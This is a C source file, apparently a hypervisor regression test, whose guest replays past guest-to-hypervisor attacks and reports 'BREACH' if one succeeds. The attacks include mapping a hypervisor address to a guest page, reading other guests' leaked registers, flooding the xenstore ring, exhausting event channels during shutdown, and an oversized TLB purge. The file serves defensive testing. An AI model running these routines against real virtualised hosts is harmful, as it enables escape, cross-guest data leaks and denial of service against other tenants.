// SPDX-License-Identifier: MIT
/*
 * attack - what a guest once could do to the hypervisor or to others, one at a time.
 *
 * Words: the name of an attack, vcpus=N, wait=N. What a defect would show is printed as
 * "attack: BREACH ..."; an attack that came to nothing, and whose guest is still there, ends
 * with "attack: done". attacks.test says what else must be seen.
 */
#include "ops.h"
#include "others.h"
#include "words.h"

extern char ivt[], ap_start[];
void ap_main(uint64_t b0);

#define HOLE	    0xf000000000100000ul /* where the hypervisor finds PAL's page */
#define TABLE	    0xe000000008000000ul /* a short page table in region 7 */
#define PAGE	    16384
#define RID	    0x77ul
#define NAT_REG	    0x5600
#define DFH	    0x5500
#define MS	    100000ul /* of ar.itc */
#define NS_PER_TICK 10
#define SECRET	    0x5ec2e75ec2e7
#define HV_BYTE	    0xf4ul /* highest one of the hypervisor's own addresses */
#define LAST	    2047u  /* event channel */
#define B0_VALUE    0x1230ul

static const char *words;
static uint64_t vcpus, faults;
static volatile uint64_t go, up;
static volatile struct xen_console_ring *console;
static volatile struct xen_store_ring *store;

static void fail(const char *what, uint64_t value)
{
	print("attack: BREACH: %s: %#lx\n", what, value);
	guest_exit(1);
}

static uint64_t itc(void)
{
	uint64_t t;

	asm volatile("mov %0 = ar.itc" : "=r"(t));
	return t;
}

static void spin(uint64_t rounds)
{
	while (rounds--)
		asm volatile("nop 0" ::: "memory");
}

static int64_t send(uint32_t port)
{
	struct xen_evtchn_port p = { port };

	return hypercall(XEN_CALL_event_channel_op, EVTCHNOP_send, inline_handle(&p), 0);
}

/* ---- hole: its page table answers for an address of the hypervisor's ---- */

static uint8_t table[2 * PAGE] __attribute__((aligned(2 * PAGE)));
static uint8_t evil[PAGE] __attribute__((aligned(PAGE)));

static void hole(void)
{
	set_rr(TABLE, RID << 8 | 14 << 2 | 1);
	asm volatile("mov cr.pta = %0;; srlz.d" ::"r"((TABLE & ~(7ul << 61)) | 15 << 2 | 1)
		     : "memory");
	*(volatile uint64_t *)(table + (thash(HOLE) & (sizeof(table) - 1))) =
		(uint64_t)evil | PTE_RWX;
	/* itself by translation registers, then virtual mode */
	MR->ic = 0;
	MR->ifa = 0x4000000;
	MR->itir = 26 << 2;
	asm volatile("itr.i itr[%0] = %1;; srlz.i" ::"r"(0ul), "r"(0x4000000ul | PTE_RWX)
		     : "memory");
	PRIVOP(ITR_D, 0, 0x4000000ul | PTE_RWX);
	MR->ic = 1;
	PRIVOP(SSM_DT, 0, 0);
	for (unsigned int i = 0; i < sizeof(table); i += PAGE)
		insert(true, TABLE + i, (uint64_t)table + i + PTE_RW, 14 << 2);
	evil[0] = 0x66;
	fail("the hypervisor's address has the guest's page", *(volatile uint8_t *)HOLE);
}

/* ---- ended: a call that waited for the lock while another processor ended the guest ---- */

static void ended_other(uint64_t id)
{
	static struct xen_sched_shutdown off = { .reason = XEN_SHUTDOWN_poweroff };

	while (!go)
		;
	spin(id == 1 ? 3000 : word_number(words, "wait", 10000));
	if (id == 1)
		hypercall(XEN_CALL_sched_op, SCHEDOP_shutdown, inline_handle(&off), 0);
	else /* its answer, a port's number, makes the ring full */
		hypercall(XEN_CALL_event_channel_op, EVTCHNOP_bind_ipi,
			  inline_handle(&console->out_cons), 0);
}

static void ended(void)
{
	static struct xen_evtchn_bind_ipi b;
	static char text[4096];

	do
		hypercall(XEN_CALL_event_channel_op, EVTCHNOP_bind_ipi, inline_handle(&b), 0);
	while (b.port < LAST);
	for (unsigned int i = 0; i < sizeof(text); i++)
		text[i] = i % 64 == 63 ? '\n' : '.';
	go = 1;
	hypercall(XEN_CALL_console_io, XEN_CONSOLE_WRITE, sizeof(text), inline_handle(text));
	for (;;)
		;
}

/* ---- store: requests that come as fast as they are answered, by a processor that never traps ---- */

static void store_other(uint64_t id)
{
	(void)id;
	for (;;) {
		store->req_prod = store->req_cons + 512;
		store->rsp_cons = store->rsp_prod;
	}
}

static uint32_t store_port;

static void asks_the_store(void)
{
	send(store_port);
}

/* ---- stack: what others left in the stacked registers ---- */

void fill_and_yield(uint64_t value);
void look(uint64_t *to);

asm(".macro for_all what:vararg\n"
    "	.altmacro\n	.set n, 32\n	.rept 96\n	\\what %n\n	.set n, n + 1\n	.endr\n"
    "	.noaltmacro\n.endm\n"
    ".macro set_one n\n	mov r\\n = r15\n.endm\n"
    ".macro store_one n\n	tnat.nz p6, p7 = r\\n;;\n(p7)	st8 [r15] = r\\n, 8\n"
    "(p6)	adds r15 = 8, r15;;\n.endm\n"
    "	.text\n	.global fill_and_yield\n	.proc fill_and_yield\nfill_and_yield:\n"
    "	mov r15 = r32\n	mov r16 = b0;;\n"
    "	alloc r14 = ar.pfs, 0, 96, 0, 0;;\n"
    "	for_all set_one\n	;;\n"
    "	mov r32 = r0\n	mov r2 = 29;;\n" /* sched_op, yield */
    "	break 0x1000;;\n"
    "	mov b0 = r16\n	mov ar.pfs = r14\n	br.ret.sptk b0\n	.endp fill_and_yield\n"
    "	.global look\n	.proc look\nlook:\n"
    "	mov r15 = r32;;\n	alloc r14 = ar.pfs, 0, 96, 0, 0;;\n"
    "	for_all store_one\n"
    "	mov ar.pfs = r14\n	br.ret.sptk b0\n	.endp look\n");
_Static_assert(XEN_CALL_sched_op == 29 && SCHEDOP_yield == 0, "in fill_and_yield");

static void stack(void)
{
	static uint64_t seen[96];
	bool secret = find_word(words, "secret");

	for (unsigned int i = 0; i < 300; i++) {
		if (secret) {
			fill_and_yield(SECRET);
			continue;
		}
		hypercall(XEN_CALL_sched_op, SCHEDOP_yield, 0, 0);
		look(seen);
		for (unsigned int j = 0; j < 96; j++) {
			if (seen[j] == SECRET)
				fail("a register of another guest", seen[j]);
			if (seen[j] >> 56 == HV_BYTE)
				fail("an address of the hypervisor's", seen[j]);
		}
	}
}

/* ---- fp: f32 to f127 of a processor that is moved about, by others that compute and sleep ---- */

static void sleep_until(uint64_t t)
{
	struct xen_sched_poll p = { .timeout = t * NS_PER_TICK };

	hypercall(XEN_CALL_sched_op, SCHEDOP_poll, inline_handle(&p), 0);
}

static void fp(void)
{
	uint64_t x = 88172645463325252, until, value;
	bool touches = !find_word(words, "without");

	for (uint64_t round = 0; round < 200; round++) {
		if (touches)
			asm volatile("setf.sig f40 = %0" ::"r"(round));
		x ^= x << 13;
		x ^= x >> 7;
		x ^= x << 17;
		until = itc() + (x & 0xfffff); /* up to 10 ms */
		while ((int64_t)(itc() - until) < 0)
			;
		if (!touches) {
			sleep_until(until + (x >> 20 & 0x7ffff));
			continue;
		}
		asm volatile("getf.sig %0 = f40" : "=r"(value));
		if (value != round)
			fail("f40", value);
		if (faults)
			fail("Disabled FP faults that it did not ask for", faults);
	}
}

/* ---- nat: a hyperprivop whose operand is a NaT ---- */

static void nat(void)
{
	static uint64_t zero;

	asm volatile("mov ar.unat = %1;; ld8.fill r8 = [%0]\n mov r14 = %2;; mov b0 = r14\n"
		     "mov r14 = -1;; mov pr = r14, -1;; break %3;;" ::"r"(&zero),
		     "r"(~0ul), "i"(B0_VALUE), "i"(XEN_PRIVOP_GET_RR)
		     : "r8", "r14", "b0", "memory");
	fail("no fault", 0);
}

/* ---- purge: of more than there is, in the tables of sixteen processors ---- */

static void purge(void)
{
	for (unsigned int ps = 14; ps < 34; ps++) {
		uint64_t t = itc();

		ptc_ga(1ul << 61, ps);
		t = itc() - t;
		if (t > 10 * MS)
			fail("a purge that takes longer than 10 ms", t);
	}
}

/* ---- all of them ---- */

static const struct attack {
	const char *name;
	void (*first)(void), (*other)(uint64_t id);
} attacks[] = {
	{ "hole", hole, 0 },
	{ "ended", ended, ended_other },
	{ "store", asks_the_store, store_other },
	{ "stack", stack, 0 },
	{ "fp", fp, 0 },
	{ "nat", nat, 0 },
	{ "purge", purge, 0 },
};

static const struct attack *chosen(void)
{
	for (unsigned int i = 0; i < sizeof(attacks) / sizeof(*attacks); i++)
		if (find_word(words, attacks[i].name))
			return &attacks[i];
	print("attack: no such attack: %s\n", words);
	guest_exit(1);
}

void interrupted(struct frame *f)
{
	if (f->vector == DFH) {
		faults++;
		f->ipsr &= ~PSR_DFH;
		return;
	}
	if (f->vector != NAT_REG || !find_word(words, "nat"))
		fail("an interruption, at", f->iip);
	if (f->br[0] != B0_VALUE)
		fail("b0", f->br[0]);
	if ((f->pr | 1) != ~0ul)
		fail("predicates", f->pr);
	print("attack: done\n");
	guest_exit(0);
}

void ap_main(uint64_t b0)
{
	(void)b0;
	__atomic_fetch_add(&up, 1, __ATOMIC_ACQ_REL);
	chosen()->other(MR->lid >> 24 & (PROCESSORS - 1));
	for (;;)
		asm volatile("hint @pause");
}

void guest_main(uint64_t boot_param)
{
	const struct xen_start_info *si = (void *)(boot_param - XEN_BOOT_PARAM_OFS);
	const struct attack *a;

	words = guest_cmdline(boot_param);
	a = chosen();
	vcpus = word_number(words, "vcpus", 1);
	console = (void *)(si->console_pfn << 14);
	store = (void *)(si->store_pfn << 14);
	store_port = si->store_evtchn;
	map_shared_pages();
	asm volatile("mov cr.iva = %0;; srlz.i;;" ::"r"(ivt));
	if (a->other) {
		start_others(vcpus, ap_start);
		while (up < vcpus - 1)
			asm volatile("hint @pause");
		spin(100000);
	}
	a->first();
	print("attack: done\n");
	guest_exit(0);
}
